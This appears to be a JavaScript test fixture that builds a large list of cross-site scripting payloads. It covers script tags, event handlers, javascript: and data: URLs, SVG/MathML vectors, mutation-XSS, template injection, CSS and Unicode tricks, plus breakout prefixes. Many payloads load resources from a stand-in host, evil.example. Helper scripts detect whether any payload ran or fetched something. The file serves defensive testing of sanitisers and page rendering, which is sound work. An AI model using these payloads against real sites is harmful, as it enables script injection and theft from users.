// Text that would rather be markup: shapes that make a browser run, fetch or draw something, put together with what they would have to
// break out of. Each that worked would call `met`, open a dialog, ask evil.example, or make an element marked `data-met`.
const code = 'met(1)';
const away = 'https://evil.example';

const scripts = [
  `<script>${code}</script>`,
  `<ScRiPt>${code}</sCrIpT>`,
  `<script/x>${code}</script >`,
  `<script src=${away}/a.js></script>`,
  `<script src=//evil.example/a.js></script>`,
  `<script type=module>${code}</script>`,
  `<script\n>${code}</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<script>alert(1)</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${code} data-met>">`,
];

const handlers = [
  ...['onerror', 'onload', 'ONERROR', 'onerror\t', 'onerror\n'].map(
    (handler) => `<img data-met src=x ${handler}=${code}>`,
  ),
  `<img/src=x/onerror=${code}/data-met>`,
  `<img src=x onerror="alert(1)" data-met>`,
  `<img src='x' onerror='${code}' data-met>`,
  `<img src=\`x\` onerror=\`${code}\` data-met>`,
  `<body onload=${code} data-met>`,
  `<input autofocus onfocus=${code} data-met>`,
  `<details open ontoggle=${code} data-met>`,
  `<video><source onerror=${code} data-met></video>`,
  `<audio src=x onerror=${code} data-met>`,
  `<marquee onstart=${code} data-met>`,
  `<div onpointerenter=${code} style=position:fixed;inset:0 data-met>`,
  `<style onload=${code} data-met></style>`,
  `<a autofocus tabindex=1 onfocus=${code} href=# data-met>x</a>`,
  `<select autofocus onfocus=${code} data-met></select>`,
  `<b onanimationstart=${code} style=animation:x data-met>`,
];

const fetched = [
  `<img src=${away}/b.png data-met>`,
  `<img srcset="${away}/b.png 1x" data-met>`,
  `<link rel=stylesheet href=${away}/c.css data-met>`,
  `<link rel=preload as=image href=${away}/d.png data-met>`,
  `<link rel=dns-prefetch href=${away} data-met>`,
  `<iframe src=${away} data-met></iframe>`,
  `<iframe srcdoc="<script>parent.${code}</script>" data-met></iframe>`,
  `<object data=${away}/e.swf data-met></object>`,
  `<embed src=${away}/f data-met>`,
  `<base href=${away}/ data-met>`,
  `<meta http-equiv=refresh content="0;url=${away}" data-met>`,
  `<form action=${away} data-met><button autofocus>x</button></form>`,
  `![b](${away}/g.png)`,
  `![b][1]\n\n[1]: ${away}/h.png`,
  `<${away}/i>`,
  `${away}/j`,
];

const addresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `\u0001javascript:${code}`,
  `javascript&colon;${code}`,
  `&#106;avascript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5tZXQoMSk8L3NjcmlwdD4=`,
  `vbscript:${code}`,
  `blob:${away}/x`,
].flatMap((address) => [`[a](${address})`, `<a href="${address}" data-met>a</a>`]);

const drawings = [
  `<svg onload=${code} data-met>`,
  `<svg/onload=${code}/data-met>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href=data:,${code} /></svg>`,
  `<svg><a xlink:href=javascript:${code}><text y=20 data-met>x</text></a></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s data-met>`,
  `<svg><set attributeName=onmouseover to=${code} data-met>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}/>#x" data-met>`,
  `<svg><image href=${away}/k.png data-met>`,
  `<svg><foreignObject><iframe onload=${code} data-met></foreignObject></svg>`,
  `<svg><style>@import '${away}/l.css';</style></svg>`,
  `<math><mtext><img src=x onerror=${code} data-met></mtext></math>`,
  `<math href=javascript:${code} data-met>x</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${code} data-met>x</maction></math>`,
];

/** What parsers, sanitisers and serialisers read differently from each other. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${code} data-met>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${code} data-met>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${code} src data-met>">`,
  `<listing>&lt;img onerror=${code} src=x data-met&gt;</listing>`,
  `<template><img src=x onerror=${code} data-met></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${code} data-met>">`,
  `<![CDATA[<img src=x onerror=${code} data-met>]]>`,
  `<!--><img src=x onerror=${code} data-met>-->`,
  `<!--- ---!><img src=x onerror=${code} data-met>`,
  `<?xml version="1.0"?><img src=x onerror=${code} data-met>`,
  `<%= ${code} %>`,
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `#{${code}}`,
  `{{7*7}}[[${code}]]`,
  `<x-y is=script>${code}</x-y>`,
];

const styles = [
  `<style>*{background:url(${away}/m.png)}</style>`,
  `<style>@import "${away}/n.css";</style>`,
  `<p style="background:url(${away}/o.png)" data-met>`,
  `<p style="width:expression(${code})" data-met>`,
  `<p style="-moz-binding:url(${away}/p.xml#x)" data-met>`,
  `</style><img src=x onerror=${code} data-met>`,
  `}*{background:url(${away}/q.png)}`,
];

const entities = [
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `&#60;img src=x onerror=${code} data-met&#62;`,
  `&#x3c;img src=x onerror=${code} data-met&#x3e;`,
  `&lt;img src=x onerror=${code} data-met&gt;`,
  `\\u003cimg src=x onerror=${code} data-met\\u003e`,
  `%3Cimg src=x onerror=${code} data-met%3E`,
  `&amp;lt;script&amp;gt;${code}`,
  `&NewLine;&Tab;<img src=x onerror=${code} data-met>`,
];

/** Letters that become others, vanish, or turn the text around. */
const letters = [
  ...[
    '\u200b',
    '\ufeff',
    '\u00ad',
    '\u202e',
    '\u2066',
    '\u2069',
    '\u0008',
    '\u001b[31m',
    '\u0085',
    '\u2028',
  ].map((letter) => `${letter}<img${letter} src=x onerror=${code} data-met>`),
  `\uff1cscript\uff1e${code}\uff1c/script\uff1e`,
  `\u02c2img src=x onerror=${code} data-met\u02c3`,
  `\u{e003c}\u{e0073}<b data-met>`,
  `ſcript<ſcript>${code}</ſcript>`,
  `<ımg src=x onerror=${code} data-met>`,
];

const shapes = [
  ...[scripts, handlers, fetched, addresses, drawings, mutations, styles, entities, letters],
].flat();

/** Ends of what a careless page would have put the text into. */
const exits = [
  ...[
    '"',
    "'",
    '`',
    '>',
    '">',
    "'>",
    '-->',
    ']]>',
    '*/',
    '\\"',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
  ],
  ...[
    '</option></select>',
    '</td></tr></table>',
    '</svg>',
    '</template>',
    '</noscript>',
    '</pre>',
    '\n\n',
    '"};',
  ],
];

/** Every shape bare; then each once more behind an exit, all exits in turn. */
export const hostileStrings: readonly string[] = [
  ...new Set([...shapes, ...shapes.map((shape, nth) => `${exits[nth % exits.length]}${shape}`)]),
];

/** As a path a file system takes: what stands between slashes is a folder. */
export function hostilePath(text: string): string {
  const steps = text.replaceAll('\u0000', '').split('/');
  return steps.map((step) => (/^\.*$/.test(step) ? '_' : [...step].slice(0, 60).join(''))).join('/');
}

/** Put into every page before it loads: what is met, and what the policy refused. */
export const watchForHits = `
  globalThis.hits = [];
  globalThis.met = () => hits.push('script');
  addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
    hits.push('policy ' + violatedDirective + ' ' + blockedURI));
`;

/** What was met, and what of the page no part of it draws. */
export const foundHits = `[
  ...hits,
  ...[...document.querySelectorAll('[data-met], img, iframe, object, embed, base, math, template, marquee, audio, video, link[href*=evil], style[onload]')]
    .map((element) => element.outerHTML.slice(0, 200)),
  ...[...document.querySelectorAll('*')].flatMap((element) => [...element.attributes]
    .filter(({ name, value }) => name.startsWith('on') || /^(href|src|action|formaction|xlink:href)$/.test(name) && !/^(#|\\/page\\/|data:,$)/.test(value.replace(location.origin, '')))
    .map(({ name, value }) => element.tagName + ' ' + name + '=' + value.slice(0, 100))),
]`;
